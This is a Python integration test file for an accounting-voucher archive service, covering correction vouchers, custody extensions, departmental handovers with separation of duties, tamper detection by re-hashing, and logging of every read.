    r = await http.get("/v1/registers/custody.xlsx", params=params, headers=as_user(ARCHIVIST))
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    [row] = list(sheet.iter_rows(min_row=3))
    assert (row[5].value, row[5].data_type) == (summary, "s")  # text, as typed
    assert (row[6].value, row[6].data_type) == (-5, "n")  # the amount, a number
    r = await http.get("/v1/registers/custody.csv", params=params, headers=as_user(ARCHIVIST))
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][5] == "摘要" and rows[2][5] == "'" + summary and rows[2][6] == "-5.00"


async def test_corrections_are_vouchers_of_their_own_linked_both_ways(
    archived: Any, platform: PlatformSettings
) -> None:
    """会计基础工作规范 第五十一条(五): a red voucher cancels the office purchase (注销, named by
    its 档号) and a blue one books it again (订正, named as the ERP knows the voucher), in April;
    each gets its own 档号, the purchase is never changed, and each side shows the other. One
    naming a voucher the archive does not hold is archived and held for review, naming it."""
    http, docs = archived
    old = (
        await http.get(f"/v1/records/{docs['office'].document_id}", headers=as_user(ARCHIVIST))
    ).json()
    total = old["voucher"]["total"]["amount"]
    cancelled = await document(
        platform, fonds=FONDS, year=2025, summary="注销3月采购办公用品凭证", amount=f"-{total}",
        period=4,
    )  # fmt: skip
    by_code = CorrectionOf(kind=CorrectionKind.REVERSAL, archive_code=old["archive_code"])
    cancelled = cancelled.model_copy(update={"correction": by_code})
    rebooked = await document(
        platform, fonds=FONDS, year=2025, summary="订正3月采购办公用品", amount="1010.00", period=4
    )
    by_erp = CorrectionOf(
        kind=CorrectionKind.CORRECTING_ENTRY, fiscal_year=2025, period=3,
        voucher_no=old["voucher"]["voucher_no"],
    )  # fmt: skip
    rebooked = rebooked.model_copy(update={"correction": by_erp})
    stray = await document(
        platform, fonds=FONDS, year=2025, summary="更正不存在的凭证", amount="1.00", period=4
    )
    missing = CorrectionOf(
        kind=CorrectionKind.ADJUSTMENT, archive_code=f"{FONDS}-2025-D30-PZ-999999"
    )
    stray = stray.model_copy(update={"correction": missing})
    async with (
        EventWatcher(platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED]) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        for d in (cancelled, rebooked, stray):
            await out.send(
                new_event(
                    d, source=source_of("ingest"), subject=str(d.document_id), correlation_id="c"
                )
            )
        [red] = await watch.wait_for(
            of_type("RecordArchived", record_id=str(cancelled.document_id))
        )
        [blue] = await watch.wait_for(
            of_type("RecordArchived", record_id=str(rebooked.document_id))
        )
        [odd] = await watch.wait_for(of_type("RecordArchived", record_id=str(stray.document_id)))

    codes = {old["archive_code"], red.data["archive_code"], blue.data["archive_code"]}
    assert len(codes) == 3 and not any("-V" in c for c in codes)  # each its own, no version
    for new, kind in ((red, "注销"), (blue, "订正")):
        assert new.data["corrects"] == {
            "kind": kind, "record_id": old["record_id"], "archive_code": old["archive_code"]
        }  # fmt: skip
        assert new.data["review_required"] is False, new.data["check_report"]
    drilled = await http.get(f"/v1/records/{old['record_id']}/drill", headers=as_user(ARCHIVIST))
    assert drilled.status_code == 200, drilled.text
    shown = sorted((c["kind"], c["archive_code"]) for c in drilled.json()["corrected_by"])
    assert shown == sorted(
        [("注销", red.data["archive_code"]), ("订正", blue.data["archive_code"])]
    )
    from_red = await http.get(
        f"/v1/records/{red.data['record_id']}/drill", headers=as_user(ARCHIVIST)
    )
    assert from_red.json()["corrects"]["archive_code"] == old["archive_code"]
    still = await http.get(f"/v1/records/{old['record_id']}", headers=as_user(ARCHIVIST))
    assert still.json() == old  # never changed, never superseded
    assert odd.data["review_required"] is True and odd.data["corrects"] is None
    [check] = [c for c in odd.data["check_report"] if c["code"] == "AAP-CORRECTION"]
    assert check["outcome"] == "failed"
    assert (
        f"档号 {FONDS}-2025-D30-PZ-999999, which this fonds does not hold (yet)" in check["detail"]
    )


async def test_a_correction_archived_before_its_voucher_is_linked_once_the_voucher_is(
    archived: Any, platform: PlatformSettings
) -> None:
    """The original still on its way: the correction is archived, held for review, and waits;
    the voucher arriving later is linked to it (CorrectionLinked), shown from either side. Pairs
    sent at once, in either order, are each linked once."""
    from contracts.topics import CORRECTIONS_LINKED

    http, _ = archived

    async def pair(n: int) -> tuple[DocumentIngested, DocumentIngested]:
        number = f"记-{n}{secrets.randbelow(10**6):06d}"
        original = await document(
            platform, fonds=FONDS, year=2025, summary="原凭证", amount="8.00", period=5
        )
        assert original.voucher is not None
        original = original.model_copy(
            update={"voucher": original.voucher.model_copy(update={"voucher_no": number})}
        )
        names = CorrectionOf(
            kind=CorrectionKind.REVERSAL, fiscal_year=2025, period=5, voucher_no=number
        )
        red = await document(
            platform, fonds=FONDS, year=2025, summary="注销", amount="-8.00", period=5
        )
        return original, red.model_copy(update={"correction": names})

    def sent(d: DocumentIngested) -> Any:
        return new_event(
            d, source=source_of("ingest"), subject=str(d.document_id), correlation_id="c"
        )

    late_original, early_red = await pair(0)
    pairs = [await pair(n) for n in range(1, 6)]
    async with (
        EventWatcher(
            platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED, CORRECTIONS_LINKED]
        ) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        await out.send(sent(early_red))
        [red] = await watch.wait_for(
            of_type("RecordArchived", record_id=str(early_red.document_id))
        )
        assert red.data["corrects"] is None and red.data["review_required"] is True
        await out.send(sent(late_original))
        [linked] = await watch.wait_for(
            of_type("CorrectionLinked", correction_record_id=str(early_red.document_id))
        )
        # …and pairs at once, in either order: whichever comes first, each is linked.
        for n, (original, correction) in enumerate(pairs):
            for d in (original, correction) if n % 2 else (correction, original):
                await out.send(sent(d))
        for original, correction in pairs:
            for d in (original, correction):
                await watch.wait_for(of_type("RecordArchived", record_id=str(d.document_id)))
        await consumed(
            platform.kafka_bootstrap, platform.namespace, "archive", [DOCUMENTS_INGESTED]
        )
        seen = await watch.caught_up()
    assert linked.data["corrected_record_id"] == str(late_original.document_id)
    assert linked.data["kind"] == "注销"
    links = [s.event for s in seen if s.event.type == "cn.aap.CorrectionLinked.v1"]
    assert len({e.id for e in links}) == len({e.data["correction_record_id"] for e in links})
    await consumed(platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED])
    for original, correction in [(late_original, early_red), *pairs]:
        drill = await http.get(
            f"/v1/records/{correction.document_id}/drill", headers=as_user(ARCHIVIST)
        )
        assert drill.status_code == 200, drill.text
        assert drill.json()["corrects"]["record_id"] == str(original.document_id)
        back = await http.get(
            f"/v1/records/{original.document_id}/drill", headers=as_user(ARCHIVIST)
        )
        assert [c["record_id"] for c in back.json()["corrected_by"]] == [
            str(correction.document_id)
        ]


async def test_handover_takes_a_year_over_after_re_checking_every_original(
    archived: Any, platform: PlatformSettings
) -> None:
    from contracts.topics import CUSTODY_EXTENSIONS, HANDOVERS

    http, docs = archived
    office = (
        await http.get(f"/v1/records/{docs['office'].document_id}", headers=as_user(ARCHIVIST))
    ).json()
    attachment = next(f for f in office["originals"] if f["role"] == "attachment")
    store = s3.ObjectStore(s3.connect(platform), attachment["bucket"])
    await store.put(attachment["object_key"], b"changed after archiving", "application/pdf")
    body = {"offer_id": await offer(http, 2025)}
    refused = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
    assert refused.status_code == 409
    detail = refused.json()["detail"]
    assert office["archive_code"] in detail and "a later version was put over" in detail

    overdue = await http.get(
        "/v1/custody/overdue",
        params={"fonds_code": FONDS, "as_of": "2027-06-01"},
        headers=as_user(ARCHIVIST),
    )
    assert [y["fiscal_year"] for y in overdue.json()] == [1990, 2025]

    # The archive department consents to the accounting department keeping 2025 a year longer.
    consent = {"fonds_code": FONDS, "fiscal_year": 2025, "extended_years": 1, "reason": "审计未完"}
    outsider = await http.post("/v1/custody/extensions", json=consent, headers=as_user(OUTSIDER))
    assert outsider.status_code == 403
    too_long = await http.post(
        "/v1/custody/extensions", json={**consent, "extended_years": 3}, headers=as_user(ARCHIVIST)
    )
    assert too_long.status_code == 422
    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [CUSTODY_EXTENSIONS]
    ) as watch:
        r = await http.post("/v1/custody/extensions", json=consent, headers=as_user(ARCHIVIST))
        assert r.status_code == 201, r.text
        [extended] = await watch.wait_for(of_type("CustodyExtended", fiscal_year=2025))
    assert extended.data["custody_until"] == "2027-12-31"
    assert extended.data["consented_by"] == ARCHIVIST
    again = await http.post("/v1/custody/extensions", json=consent, headers=as_user(ARCHIVIST))
    assert again.status_code == 409 and "already extended by 1 year" in again.json()["detail"]
    overdue = await http.get(
        "/v1/custody/overdue",
        params={"fonds_code": FONDS, "as_of": "2027-06-01"},
        headers=as_user(ARCHIVIST),
    )
    assert [y["fiscal_year"] for y in overdue.json()] == [1990]

    old = {"offer_id": await offer(http, 1990)}
    await waive_gaps(http, FONDS, 1990, ARCHIVIST, HANDOVER_ONLY)
    # The accounting side does not accept its own offer: neither by role…
    by_accountant = await http.post("/v1/handovers", json=old, headers=as_user(ACCOUNTANT))
    assert by_accountant.status_code == 403
    async with EventWatcher(platform.kafka_bootstrap, platform.namespace, [HANDOVERS]) as watch:
        r = await http.post("/v1/handovers", json=old, headers=as_user(ARCHIVIST))
        assert r.status_code == 201, r.text
        [event] = await watch.wait_for(
            of_type("RecordsHandedOver", handover_id=r.json()["handover_id"])
        )
    assert event.data["record_ids"] == [str(docs["old"].document_id)]
    # 移交人 and 接收人 are the two authenticated principals, neither typed in a body; the 监交人
    # the 移交人 named confirmed it with their own sign-in.
    assert (event.data["received_by"], event.data["handed_over_by"]) == (ARCHIVIST, ACCOUNTANT)
    assert event.data["supervised_by"] == SUPERVISOR and event.data["supervised_at"]
    await kept_handover_list(http, platform, event.data)
    again = await http.post("/v1/handovers", json=old, headers=as_user(ARCHIVIST))
    assert again.status_code == 409 and "was accepted by handover" in again.json()["detail"]
    nothing_left = await http.post(
        "/v1/handover-offers",
        json={"fonds_code": FONDS, "fiscal_year": 1990, "supervised_by": SUPERVISOR},
        headers=as_user(ACCOUNTANT),
    )
    assert nothing_left.status_code == 409 and "no records" in nothing_left.json()["detail"]

    # The handover bound the year's volume, and its 移交清册 in a volume of its own after it; a
    # record of 1990 archived later does not renumber them.
    params = {"fonds_code": FONDS, "fiscal_year": 1990}
    late = await document(
        platform, fonds=FONDS, year=1990, summary="补录凭证", amount="5.00", period=1
    )
    await archive_document(platform, late)
    volumes = (await http.get("/v1/volumes", params=params, headers=as_user(ARCHIVIST))).json()
    assert [(v["volume"], v["period"], v["items"], v["bound"]) for v in volumes] == [
        (1, docs["old"].period, 1, True),
        (2, None, 1, True),
        (3, 1, 1, False),
    ]
    overdue = await http.get(
        "/v1/custody/overdue",
        params={"fonds_code": FONDS, "as_of": "2028-01-01"},
        headers=as_user(ARCHIVIST),
    )
    # 2025 is extended to 2027; the record of 1990 archived late still has to be handed over.
    assert [(y["fiscal_year"], y["extended_years"]) for y in overdue.json()] == [
        (1990, 0),
        (2025, 1),
    ]


async def test_an_interrupted_handover_is_completed_as_it_was_started(
    archived: Any, platform: PlatformSettings, archive_db: Pool
) -> None:
    http, _ = archived
    late = await document(platform, fonds=FONDS, year=2021, summary="二〇二一年凭证", amount="9.00")
    record = await archive_document(platform, late)
    # A handover that crashed after it was kept and before it was applied.
    started = RecordsHandedOver(
        handover_id=uuid.uuid4(),
        fonds_code=FONDS,
        fiscal_year=2021,
        record_ids=(record.record_id,),
        volumes=1,
        handed_over_by="陈静（会计机构）",
        received_by=ARCHIVIST,
        handed_over_at=datetime.now(UTC),
    )
    await Handovers(archive_db, timedelta(hours=1)).start(started, bind(assemble([record])))

    body = {"offer_id": await offer(http, 2021)}
    async with EventWatcher(platform.kafka_bootstrap, platform.namespace, [HANDOVERS]) as watch:
        r = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
        assert r.status_code == 201, r.text
        [event] = await watch.wait_for(
            of_type("RecordsHandedOver", handover_id=str(started.handover_id))
        )
    assert r.json()["handover_id"] == str(started.handover_id)
    assert event.data["handed_over_by"] == "陈静（会计机构）"  # as started, not as retried
    params = {"fonds_code": FONDS, "fiscal_year": 2021}
    volumes = (await http.get("/v1/volumes", params=params, headers=as_user(ARCHIVIST))).json()
    assert [(v["volume"], v["items"], v["bound"]) for v in volumes] == [(1, 1, True)]
    again = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
    assert again.status_code == 409 and "was accepted by handover" in again.json()["detail"]


async def test_archivists_handing_over_one_year_at_once_make_one_handover(
    archived: Any, platform: PlatformSettings, archive_db: Pool
) -> None:
    """Twenty requests for one fonds and year at once, in rounds: each round one handover of
    what was not handed over before, the others refused; no record in two handovers."""
    http, _ = archived
    handed: list[tuple[str, set[str]]] = []
    for n in range(4):
        record = await archive_document(
            platform,
            await document(platform, fonds=FONDS, year=2019, summary=f"第{n}轮", amount="1.00"),
        )
        body = {"offer_id": await offer(http, 2019)}
        await waive_gaps(http, FONDS, 2019, ARCHIVIST, HANDOVER_ONLY)
        async with EventWatcher(platform.kafka_bootstrap, platform.namespace, [HANDOVERS]) as watch:
            answers = await asyncio.gather(
                *(
                    http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
                    for _ in range(20)
                )
            )
            await watch.wait_for(of_type("RecordsHandedOver"))  # the outbox relays it after
            seen = await watch.caught_up()
        accepted = {r.json()["handover_id"] for r in answers if r.status_code == 201}
        assert len(accepted) == 1, [r.text for r in answers]
        assert {r.status_code for r in answers} <= {201, 409}, [r.text for r in answers]
        # One fact, whatever the answers: a request that finds the handover under way may
        # complete it too, which publishes it again under the same event id (consumers skip it).
        assert len({s.event.id for s in seen}) == 1, seen
        event = seen[0].event
        assert event.data["handover_id"] in accepted
        assert event.data["record_ids"] == [str(record.record_id)]  # only what was new
        handed.append((event.data["handover_id"], set(event.data["record_ids"])))
    params = {"fonds_code": FONDS, "fiscal_year": 2019}
    volumes = (await http.get("/v1/volumes", params=params, headers=as_user(ARCHIVIST))).json()
    # Four handovers of one record each, each followed by its 移交清册's volume.
    assert [(v["volume"], v["items"], v["bound"]) for v in volumes] == [
        (n, 1, True) for n in range(1, 9)
    ]

    # Whatever the timing: the year is marked before its records are read, so a second
    # handover cannot start until the first is done…
    # The archive's handover store, as a second archive process would reach it.
    store = Handovers(archive_db, mark_lease=timedelta(hours=1))
    first, second = uuid.uuid4(), uuid.uuid4()
    await store.open(OTHER_FONDS, 2018, first)
    with pytest.raises(HandoverRefused, match="already under way"):
        await store.open(OTHER_FONDS, 2018, second)
    await store.close(OTHER_FONDS, 2018, second)  # another's mark is not taken away
    with pytest.raises(HandoverRefused, match="already under way"):
        await store.open(OTHER_FONDS, 2018, second)
    await store.close(OTHER_FONDS, 2018, first)
    await store.open(OTHER_FONDS, 2018, second)  # once the first is done, the next may start
    await store.close(OTHER_FONDS, 2018, second)
    # …and a record already handed over cannot be claimed by another handover.
    [(earlier, ids)] = handed[:1]
    again = RecordsHandedOver(
        handover_id=uuid.uuid4(),
        fonds_code=FONDS,
        fiscal_year=2019,
        record_ids=tuple(uuid.UUID(i) for i in ids),
        volumes=0,
        handed_over_by="甲",
        received_by="乙",
        handed_over_at=datetime.now(UTC),
    )
    with pytest.raises(HandoverRefused, match=f"already in handover {earlier}"):
        await store.start(again, [])
    assert await store.unfinished(FONDS, 2019) == []  # the refused one was not kept


async def test_a_mark_left_by_a_crashed_process_is_taken_over_after_its_lease(
    archive_db: Pool,
) -> None:
    store = Handovers(archive_db, timedelta(hours=1))
    # What a process that died between marking the year and keeping its handover leaves.
    await store.open(OTHER_FONDS, 2017, uuid.uuid4())
    with pytest.raises(HandoverRefused):
        await store.open(OTHER_FONDS, 2017, uuid.uuid4())  # within its lease it holds
    async with archive_db.connection() as conn:  # its lease runs out
        await conn.execute(
            "UPDATE open_handovers SET taken_at = %s WHERE fonds_code = %s AND fiscal_year = 2017",
            (datetime.now(UTC) - timedelta(hours=2), OTHER_FONDS),
        )
    takers = [uuid.uuid4() for _ in range(10)]
    taken = await asyncio.gather(
        *(store.open(OTHER_FONDS, 2017, t) for t in takers), return_exceptions=True
    )
    winners = [t for t, outcome in zip(takers, taken, strict=True) if outcome is None]
    assert len(winners) == 1, taken  # past it, taken over by one
    assert all(isinstance(o, HandoverRefused) for o in taken if o is not None)
    await store.close(OTHER_FONDS, 2017, winners[0])


async def test_nobody_reviews_a_record_they_uploaded(
    archived: Any, platform: PlatformSettings
) -> None:
    http, _ = archived
    mine = await document(platform, fonds=FONDS, year=2012, summary="自己上传的凭证", amount="6.00")
    mine = mine.model_copy(update={"review_required": True, "submitted_by": ARCHIVIST})
    async with (
        EventWatcher(platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED]) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        await out.send(
            new_event(
                mine, source=source_of("ingest"), subject=str(mine.document_id), correlation_id="c"
            )
        )
        [event] = await watch.wait_for(of_type("RecordArchived", record_id=str(mine.document_id)))
        assert event.data["submitted_by"] == ARCHIVIST
        await consumed(
            platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED]
        )
    url = f"/v1/records/{mine.document_id}/review"
    r = await http.post(url, json={"decision": "accepted"}, headers=as_user(ARCHIVIST))
    assert r.status_code == 403
    assert r.json()["detail"].startswith(f"separation of duties: {ARCHIVIST} uploaded record")


async def test_a_held_record_is_reviewed_before_it_can_be_handed_over(
    archived: Any, platform: PlatformSettings
) -> None:
    from contracts.topics import REVIEWS

    http, _ = archived
    held = await document(
        platform, fonds=FONDS, year=2023, summary="附件未齐的凭证", amount="88.00"
    )
    held = held.model_copy(update={"review_required": True})
    async with (
        EventWatcher(
            platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED, REVIEWS]
        ) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        await out.send(
            new_event(
                held, source=source_of("ingest"), subject=str(held.document_id), correlation_id="c"
            )
        )
        await watch.wait_for(of_type("RecordArchived", record_id=str(held.document_id)))
        await consumed(
            platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED]
        )
        waiting = await search(http, fiscal_year=2023, review_required=True)
        assert waiting == ["附件未齐的凭证"]
        body = {"offer_id": await offer(http, 2023)}
        refused = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
        assert (
            refused.status_code == 409
            and "awaits an archivist's review" in refused.json()["detail"]
        )

        url = f"/v1/records/{held.document_id}/review"
        outsider = await http.post(url, json={"decision": "accepted"}, headers=as_user(OUTSIDER))
        assert outsider.status_code == 404  # out of scope: as if it did not exist
        # Twenty decisions at once (two archivists clicking, a retried form): one decides.
        decision = {"decision": "accepted", "note": "纸质附件已补齐"}
        answers = await asyncio.gather(
            *(http.post(url, json=decision, headers=as_user(ARCHIVIST)) for _ in range(20))
        )
        assert sorted(r.status_code for r in answers) == [200] + [409] * 19, [
            r.text for r in answers
        ]
        assert all(
            "reviewed already by" in r.json()["detail"] for r in answers if r.status_code == 409
        )
        # The decision is published by the outbox's relay after the answer: wait for it.
        [reviewed] = await watch.wait_for(
            of_type("RecordReviewed", record_id=str(held.document_id))
        )
    assert reviewed.data["reviewed_by"] == ARCHIVIST and reviewed.data["note"] == "纸质附件已补齐"
    assert await search(http, fiscal_year=2023, review_required=True) == []
    again = await http.post(url, json={"decision": "accepted"}, headers=as_user(ARCHIVIST))
    assert again.status_code == 409
    await waive_gaps(http, FONDS, 2023, ARCHIVIST, HANDOVER_ONLY)
    handed = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
    assert handed.status_code == 201, handed.text


async def test_nobody_accepts_a_handover_they_offered_whatever_roles_they_hold(
    archived: Any, platform: PlatformSettings, permission: InProcessPermission
) -> None:
    """In a small company one person may be both accountant and archivist of a fonds: then
    another archivist accepts what they hand over (移交人 ≠ 接收人)."""
    http, _ = archived
    both = "liuyang"
    await permission.assign((both, "accountant", FONDS), (both, "archivist", FONDS))
    await archive_document(
        platform, await document(platform, fonds=FONDS, year=2016, summary="两岗", amount="2.00")
    )
    body = {"offer_id": await offer(http, 2016, who=both)}
    own = await http.post("/v1/handovers", json=body, headers=as_user(both))
    assert own.status_code == 403
    assert own.json()["detail"] == (
        f"separation of duties: {both} offered this handover: another person accepts it"
    )
    await waive_gaps(http, FONDS, 2016, ARCHIVIST, HANDOVER_ONLY)
    accepted = await http.post("/v1/handovers", json=body, headers=as_user(ARCHIVIST))
    assert accepted.status_code == 201, accepted.text
    assert (accepted.json()["handed_over_by"], accepted.json()["received_by"]) == (both, ARCHIVIST)


async def test_an_original_changed_in_the_ingest_bucket_after_intake_is_never_archived(
    archived: Any, platform: PlatformSettings
) -> None:
    """The archive hashes each original again (SHA-256 and SM3) before it numbers or locks
    anything, and copies exactly the version it hashed: bytes that differ from what ingest
    announced raise an integrity alert and make no record."""
    http, _ = archived
    doc = await document(platform, fonds=FONDS, year=2014, summary="被改动的凭证", amount="4.00")
    scan = next(f for f in doc.files if f.role == "attachment")
    changed = b"%PDF-1.4 changed after intake"
    await s3.ObjectStore(s3.connect(platform), scan.bucket).put(
        scan.object_key, changed, "application/pdf"
    )
    async with (
        EventWatcher(
            platform.kafka_bootstrap, platform.namespace, [INTEGRITY_ALERTS, RECORDS_ARCHIVED]
        ) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        await out.send(
            new_event(
                doc, source=source_of("ingest"), subject=str(doc.document_id), correlation_id="c"
            )
        )
        [alert] = await watch.wait_for(
            of_type("IntegrityAlertRaised", record_id=str(doc.document_id))
        )
        await consumed(
            platform.kafka_bootstrap, platform.namespace, "archive", [DOCUMENTS_INGESTED]
        )
        seen = await watch.caught_up()
    assert (alert.data["check_code"], alert.data["object_key"]) == ("1-1", scan.object_key)
    assert alert.data["expected_sha256"] == scan.sha256
    assert alert.data["found_sha256"] == hashlib.sha256(changed).hexdigest()
    assert not [
        s for s in seen if of_type("RecordArchived", record_id=str(doc.document_id))(s.event)
    ]
    r = await http.get(f"/v1/records/{doc.document_id}", headers=as_user(ARCHIVIST))
    assert r.status_code == 404


async def test_every_read_of_records_is_on_record(
    archived: Any, platform: PlatformSettings
) -> None:
    """Who read which records, how, from where: one RecordsAccessed per read, whatever the
    endpoint; a refused read shows nothing and records nothing."""
    http, docs = archived
    travel = docs["travel"]
    record, scan = str(travel.document_id), travel.files[1].sha256
    reads = {
        "search": ("/v1/records", {"fonds_code": FONDS, "q": "北京出差"}),
        "view": (f"/v1/records/{record}", {}),
        "drill": (f"/v1/records/{record}/drill", {}),
        "drill up": ("/v1/drill", {"sha256": scan}),
        "versions": (f"/v1/records/{record}/versions", {}),
        "page": (f"/v1/records/{record}/originals/{scan}/pages/1", {}),
        "download": (f"/v1/records/{record}/originals/{scan}", {}),
        "custody register": (
            "/v1/registers/custody.csv",
            {"fonds_code": FONDS, "fiscal_year": 2025},
        ),
        "handover register": (
            "/v1/registers/handover.xlsx",
            {"fonds_code": FONDS, "fiscal_year": 2025},
        ),
    }
    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [RECORDS_ACCESSED]
    ) as watch:
        refused = await http.get(f"/v1/records/{record}", headers=as_user(OUTSIDER))
        assert refused.status_code == 404
        # Each read says it was forwarded for an address of the caller's choosing: no proxy
        # is trusted here, so the register keeps the address the request came from.
        claimed = {**as_user(ARCHIVIST), "X-Forwarded-For": "203.0.113.66"}
        for path, params in reads.values():
            r = await http.get(path, params=params, headers=claimed)
            assert r.status_code == 200, (path, r.text)
        seen = await watch.wait_for(of_type("RecordsAccessed"), count=len(reads))
    *seen, custody, handover = seen
    # A register lists every record of its fonds and year (this test's among them).
    for register, kind in ((custody, "custody"), (handover, "handover")):
        assert (register.data["action"], register.actor) == ("register", ARCHIVIST)
        assert register.data["query"] == {"register": kind, "fiscal_year": "2025"}
        assert record in register.data["record_ids"] and register.data["fonds_codes"] == [FONDS]
    by_action = [(e.data["action"], e.data["record_ids"], e.actor) for e in seen]
    assert by_action == [
        ("search", [record], ARCHIVIST),
        ("view", [record], ARCHIVIST),
        ("drill", [record], ARCHIVIST),
        ("drill", [record], ARCHIVIST),
        ("view", [record], ARCHIVIST),
        ("page", [record], ARCHIVIST),
        ("download", [record], ARCHIVIST),
    ]
    search, *_, download = (e.data for e in seen)
    assert search["query"]["text"] == "北京出差" and search["fonds_codes"] == [FONDS]
    assert download["original_sha256"] == scan and download["grant_id"] is None  # by role
    assert all(e.data["client_address"] for e in seen)
    assert not [e for e in seen if e.data["client_address"] == "203.0.113.66"]
    assert {e.data["principal"] for e in seen} == {ARCHIVIST}  # nobody's read but theirs
